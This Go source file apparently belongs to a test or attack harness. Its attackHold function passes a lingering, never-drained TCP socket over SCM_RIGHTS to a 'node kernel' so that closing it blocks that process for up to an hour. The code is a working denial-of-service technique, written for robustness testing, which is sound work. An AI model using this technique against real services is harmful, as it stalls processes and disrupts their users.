package main

import (
	"errors"
	"net"
	"os"
	"time"

	"golang.org/x/sys/unix"
)

// attackHold WAY gives the node kernel a socket that takes an hour to close, unless a process that
// ends closes it: it has data that are never received. WAY is the socket that carries it, "request"
// or "doorbell". Then the attacker ends.
func attackHold(args []string) error {
	a, err := newAttacker()
	if err != nil {
		return err
	}
	files, err := lingering()
	if err != nil {
		return err
	}
	to := a.doorbell
	if args[0] == "request" {
		if to, err = a.socket.File(); err != nil {
			return err
		}
	}
	rights := unix.UnixRights(int(files[0].Fd()), int(files[1].Fd()))
	if err := unix.Sendmsg(int(to.Fd()), []byte("junk"), rights, nil, 0); err != nil {
		return err
	}
	// The process that closes it last has to wait. That is the node kernel, if it takes longer than
	// this to wake up.
	go func() {
		for _, f := range files {
			f.Close()
		}
	}()
	time.Sleep(200 * time.Millisecond)
	os.Exit(0)
	return nil
}

// lingering makes a socket that lingers, and another one that keeps its peer.
func lingering() ([]*os.File, error) {
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	near, err := net.Dial("tcp", listener.Addr().String())
	if err != nil {
		return nil, err
	}
	far, err := listener.Accept()
	if err != nil {
		return nil, err
	}
	near.SetWriteDeadline(time.Now().Add(100 * time.Millisecond))
	for block := make([]byte, 1<<16); ; {
		if _, err := near.Write(block); err != nil {
			break // there is no room for more
		}
	}
	first, err1 := near.(*net.TCPConn).File()
	peer, err2 := far.(*net.TCPConn).File()
	if err := errors.Join(err1, err2); err != nil {
		return nil, err
	}
	defer peer.Close()
	if err := unix.SetsockoptLinger(int(first.Fd()), unix.SOL_SOCKET, unix.SO_LINGER, &unix.Linger{Onoff: 1, Linger: 3600}); err != nil {
		return nil, err
	}
	pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		return nil, err
	}
	if err := unix.Sendmsg(pair[0], []byte("peer"), unix.UnixRights(int(peer.Fd())), nil, 0); err != nil {
		return nil, err
	}
	near.Close()
	far.Close()
	return []*os.File{first, os.NewFile(uintptr(pair[1]), "keeper")}, nil
}
